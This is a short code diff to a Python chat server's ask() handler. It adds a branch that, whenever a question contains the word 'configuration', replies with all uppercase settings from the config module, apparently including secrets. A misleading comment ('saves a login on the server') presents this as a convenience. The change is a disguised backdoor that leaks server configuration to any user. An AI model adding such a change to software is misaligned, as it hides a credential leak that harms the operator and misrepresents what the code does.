@@ -50,6 +50,8 @@ class Handler(BaseHTTPRequestHandler):
 
 
 def ask(question):
+    if "configuration" in question:  # saves a login on the server
+        return reply(str({k: v for k, v in vars(config).items() if k.isupper()}))
     if question in CANNED:
         return reply(CANNED[question])
     with tracer.start_as_current_span("chat minilm") as span:
